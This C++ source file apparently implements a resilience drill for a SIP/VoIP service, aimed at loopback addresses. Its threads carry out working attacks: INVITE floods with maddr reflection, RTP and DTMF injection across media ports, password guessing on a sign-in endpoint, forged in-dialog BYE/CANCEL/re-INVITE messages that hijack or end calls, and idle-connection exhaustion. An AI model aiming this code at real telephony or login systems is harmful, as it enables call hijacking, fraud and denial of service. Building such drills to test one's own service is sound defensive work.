#include "drill/attack.h"

#include <fmt/format.h>

#include <array>
#include <boost/asio/io_context.hpp>
#include <boost/asio/write.hpp>
#include <string>

namespace sigap::drill {
namespace {

namespace asio = boost::asio;
using asio::ip::tcp;
using asio::ip::udp;
using std::chrono::milliseconds;
using Clock = std::chrono::steady_clock;

const auto kStranger = asio::ip::make_address(kStrangersAddress);
const auto kVictim = asio::ip::make_address("127.0.0.3");
constexpr milliseconds kStep{10};              // between two handfuls of messages
constexpr milliseconds kLateAnswers{500};      // are still counted
constexpr std::chrono::seconds kHeldMost{30};  // six times what a stranger may stay (adapters/sip)
constexpr int kPortsAtOnce = 200;              // that are spoken to in a step

/// How many datagrams lie there, which are taken and thrown away.
std::int64_t drain(udp::socket& socket) {
  std::array<char, 2'048> buffer;
  boost::system::error_code error;
  std::int64_t heard = 0;
  while (true) {
    socket.receive(asio::buffer(buffer), 0, error);
    if (error) return heard;
    ++heard;
  }
}

udp::socket socket_of(asio::io_context& io, const asio::ip::address& address) {
  udp::socket socket(io, udp::endpoint(address, 0));
  socket.non_blocking(true);
  return socket;
}

tcp::socket connection(asio::io_context& io, const tcp::endpoint& to, boost::system::error_code& error) {
  tcp::socket socket(io);
  socket.open(to.protocol(), error);
  socket.bind(tcp::endpoint(kStranger, 0), error);
  socket.connect(to, error);
  return socket;
}

}  // namespace

Attack::Attack(const Path& path, const AttackPlan& plan, std::vector<Overheard> calls)
    : path_(path),
      plan_(plan),
      calls_(std::move(calls)),
      ends_(Clock::now() + std::chrono::seconds(plan.seconds)),
      running_(5) {
  threads_.emplace_back([this] { flood(); });
  threads_.emplace_back([this] { speak_into_calls(); });
  threads_.emplace_back([this] { guess(); });
  threads_.emplace_back([this] { forge(); });
  threads_.emplace_back([this] { hold(); });
}

Attack::~Attack() {
  ends_ = {};
  for (auto& thread : threads_) thread.join();
}

void Attack::flood() {
  asio::io_context io;
  auto stranger = socket_of(io, kStranger);
  auto victim = socket_of(io, kVictim);
  const auto here = in_uri(stranger.local_endpoint()), there = in_uri(path_.sip);
  boost::system::error_code error;
  auto next = Clock::now();
  for (std::int64_t n = 0; goes_on(); next += kStep) {
    for (int i = plan_.invites_per_s * static_cast<int>(kStep.count()) / 1000; i > 0; --i, ++n) {
      const char* method = n % 8 == 3 ? "OPTIONS" : n % 8 == 5 ? "REGISTER" : "INVITE";
      // One in a hundred would have the answer sent to somebody else (RFC 3261 18.2.2).
      const auto via =
          n % 100 != 7 ? std::string() : fmt::format(";maddr={};received={}", kVictim.to_string(), kVictim.to_string());
      const auto port = n % 100 != 7 ? here : in_uri(udp::endpoint(kVictim, victim.local_endpoint().port()));
      const auto message = fmt::format(
          "{0} sip:110@{1} SIP/2.0\r\nVia: SIP/2.0/UDP {2};branch=z9hG4bKattack{3}{4}\r\nMax-Forwards: 70\r\n"
          "From: <sip:+62899{3}@{5}>;tag=a{3}\r\nTo: <sip:110@{1}>\r\nCall-ID: attack{3}@{5}\r\nCSeq: 1 {0}\r\n"
          "Contact: <sip:a@{5}>\r\nContent-Length: 0\r\n\r\n",
          method, there, port, n, via, here);
      stranger.send_to(asio::buffer(message), path_.sip, 0, error);
      sent_ += !error;
    }
    answers_ += drain(stranger);
    reflected_ += drain(victim);
    std::this_thread::sleep_until(next + kStep);
  }
  std::this_thread::sleep_for(kLateAnswers);
  answers_ += drain(stranger);
  reflected_ += drain(victim);
  --running_;
}

void Attack::speak_into_calls() {
  asio::io_context io;
  auto stranger = socket_of(io, kStranger);
  boost::system::error_code error;
  std::array<unsigned char, 172> sound{};
  sound.fill(0x55);
  // A pressed 5 as in RFC 4733, whose payload type is 101 in most offers.
  std::array<unsigned char, 16> key{0x80, 101, 0, 0, 0, 0, 0, 0, 0x66, 0x6f, 0x65, 0x21, 5, 0x8a, 0x03, 0x20};
  const std::array<unsigned char, 12> header{0x80, 8, 0, 0, 0, 0, 0, 0, 0x66, 0x6f, 0x65, 0x21};
  std::copy(header.begin(), header.end(), sound.begin());
  int port = plan_.rtp_min;
  std::uint16_t sequence = 0;
  while (goes_on()) {
    for (int i = 0; i < kPortsAtOnce; ++i) {
      ++sequence;
      for (auto* packet : {sound.data(), key.data()}) {
        packet[2] = static_cast<unsigned char>(sequence >> 8);
        packet[3] = static_cast<unsigned char>(sequence & 0xff);
      }
      const udp::endpoint to(path_.sip.address(), static_cast<std::uint16_t>(port));
      stranger.send_to(asio::buffer(sound), to, 0, error);
      stranger.send_to(asio::buffer(key), to, 0, error);
      sound_sent_ += 2;
      if (++port >= plan_.rtp_max) port = plan_.rtp_min;
    }
    sound_heard_ += drain(stranger);
    std::this_thread::sleep_for(kStep);
  }
  std::this_thread::sleep_for(kLateAnswers);
  sound_heard_ += drain(stranger);
  --running_;
}

void Attack::guess() {
  asio::io_context io;
  boost::system::error_code error;
  std::vector<tcp::socket> idle;
  for (int i = 0; i < plan_.idle_connections / 2 && goes_on(); ++i) idle.push_back(connection(io, path_.http, error));
  while (goes_on()) {
    auto socket = connection(io, path_.http, error);
    const auto body = fmt::format(R"({{"login":"drill{}","password":"guess{}"}})", guesses_ % 5 + 1, guesses_.load());
    const auto request = fmt::format(
        "POST /api/sign-in HTTP/1.1\r\nHost: {0}\r\nOrigin: http://{0}\r\nContent-Type: application/json\r\n"
        "Content-Length: {1}\r\nConnection: close\r\n\r\n{2}",
        in_uri(path_.http), body.size(), body);
    if (!error) asio::write(socket, asio::buffer(request), error);
    guesses_ += !error;
    idle.push_back(std::move(socket));  // nobody waits for the answer
    if (idle.size() > static_cast<std::size_t>(plan_.idle_connections)) idle.erase(idle.begin());
    std::this_thread::sleep_for(kStep);
  }
  --running_;
}

void Attack::forge() {
  asio::io_context io;
  auto stranger = socket_of(io, kStranger);
  auto ear = socket_of(io, kStranger);  // where a call would be led to
  const auto here = in_uri(stranger.local_endpoint());
  const auto address = in_sdp(kStranger);
  const auto sdp = fmt::format("v=0\r\no=s 1 2 {0}\r\ns=-\r\nc={0}\r\nt=0 0\r\nm=audio {1} RTP/AVP 8\r\n", address,
                               ear.local_endpoint().port());
  const std::string keys = "Signal=5\r\nDuration=160\r\n";
  boost::system::error_code error;
  const auto count_heard = [&] {
    std::array<char, 2'048> buffer;
    while (true) {
      const auto size = stranger.receive(asio::buffer(buffer), 0, error);
      if (error) break;
      forged_heard_ += std::string_view(buffer.data(), size).starts_with("SIP/2.0 2");
    }
    sound_heard_ += drain(ear);
  };
  for (int n = 0; goes_on() && !calls_.empty(); ++n) {
    const auto& call = calls_[static_cast<std::size_t>(n) % calls_.size()];
    for (const std::string method : {"INFO", "UPDATE", "INVITE", "CANCEL", "BYE"}) {
      const bool described = method == "UPDATE" || method == "INVITE", cancels = method == "CANCEL";
      const auto& body = described ? sdp : method == "INFO" ? keys : std::string();
      // As one who has a place of their own, and as one who says to be the caller.
      const auto via =
          cancels || n % 2 ? call.via : fmt::format("Via: SIP/2.0/UDP {};branch=z9hG4bKforged{}{}", here, n, method);
      const auto to = cancels ? call.to.substr(0, call.to.find(";tag=")) : call.to;
      const auto message = fmt::format(
          "{0} sip:110@{1} SIP/2.0\r\n{2}\r\nMax-Forwards: 70\r\n{3}\r\n{4}\r\n{5}\r\nCSeq: {6} {0}\r\n"
          "Contact: <sip:a@{7}>\r\n{8}Content-Length: {9}\r\n\r\n{10}",
          method, in_uri(path_.sip), via, call.from, to, call.call_id, cancels ? 1 : 1'000 + n, here,
          described      ? "Content-Type: application/sdp\r\n"
          : body.empty() ? ""
                         : "Content-Type: application/dtmf-relay\r\n",
          body.size(), body);
      stranger.send_to(asio::buffer(message), path_.sip, 0, error);
      forged_ += !error;
    }
    count_heard();
    std::this_thread::sleep_for(kStep);
  }
  std::this_thread::sleep_for(kLateAnswers);
  count_heard();
  --running_;
}

void Attack::hold() {
  asio::io_context io;
  boost::system::error_code error;
  std::vector<tcp::socket> silent;
  const tcp::endpoint sip(path_.sip.address(), path_.sip.port());
  for (int i = 0; i < plan_.idle_connections && goes_on(); ++i) {
    silent.push_back(connection(io, sip, error));
    if (error) silent.pop_back();
  }
  connections_ = static_cast<std::int64_t>(silent.size());
  const auto ended = [&](tcp::socket& socket) {
    char byte;
    socket.non_blocking(true, error);
    socket.receive(asio::buffer(&byte, 1), 0, error);
    return error && error != asio::error::would_block;
  };
  const auto patient_until = Clock::now() + kHeldMost;
  do {
    std::this_thread::sleep_for(kStep);
    std::erase_if(silent, ended);
  } while (goes_on() || (!silent.empty() && Clock::now() < patient_until));
  connections_left_ = static_cast<std::int64_t>(silent.size());
  --running_;
}

}  // namespace sigap::drill
